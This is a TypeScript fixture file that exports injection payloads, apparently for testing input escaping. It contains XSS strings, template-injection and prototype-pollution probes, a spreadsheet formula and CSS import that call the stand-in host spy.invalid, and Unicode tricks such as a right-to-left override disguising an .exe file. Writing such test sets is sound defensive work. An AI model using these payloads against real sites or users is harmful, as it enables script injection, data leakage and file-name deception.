/** What scripts in a payload set where one of them runs. */
export const MARK = 'hostile';
/** A host that nobody has; a payload that loads something asks it. */
export const SPY = 'spy.invalid';

/** Markup and scripts of at most fifty characters, so that each fits into a line as people type it. */
export const markup = [
  '<img src=x onerror=hostile=1>',
  '"><img src=x onerror=hostile=1>',
  '<!--><img src=x onerror=hostile=1>',
  '<svg onload=hostile=1>',
  '<svg><script>hostile=1</script></svg>',
  '</script><script>hostile=1</script>',
  '</textarea><script>hostile=1</script>',
  '</title><svg onload=hostile=1>',
  '<details open ontoggle=hostile=1>',
  '<input autofocus onfocus=hostile=1>',
  '<iframe srcdoc="<svg onload=top.hostile=1>">',
  '<img src=//spy.invalid/a.png>',
  '<style>@import"//spy.invalid/a.css"</style>',
  '<a href="javascript:hostile=1">abrir</a>',
  'javascript:hostile=1',
  '"onmouseover="hostile=1" autofocus="',
  "'-(hostile=1)-'",
  '<b><i>nunca fechado',
  '<<script>hostile=1//<</script',
  '&lt;img src=x onerror=hostile=1&gt;',
] as const;

/** What template engines would work out, and names that objects already have. */
const expressions = [
  '{{constructor.constructor("hostile=1")()}}',
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %>',
  '${hostile=1}',
  '__proto__',
  'constructor',
  '=HYPERLINK("//spy.invalid")',
] as const;

/** Text that deceives the eye or breaks a line that nobody thought could break. */
const oddText = [
  'contrato\u202Efdp.exe',
  '\u2067invertido\u2069 \u202Dforçado',
  'a\u200Bb\u200Dc\uFEFFd\u2060e',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0315lgo',
  'W'.repeat(50),
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
] as const;

export const payloads: readonly string[] = [...markup, ...expressions, ...oddText];
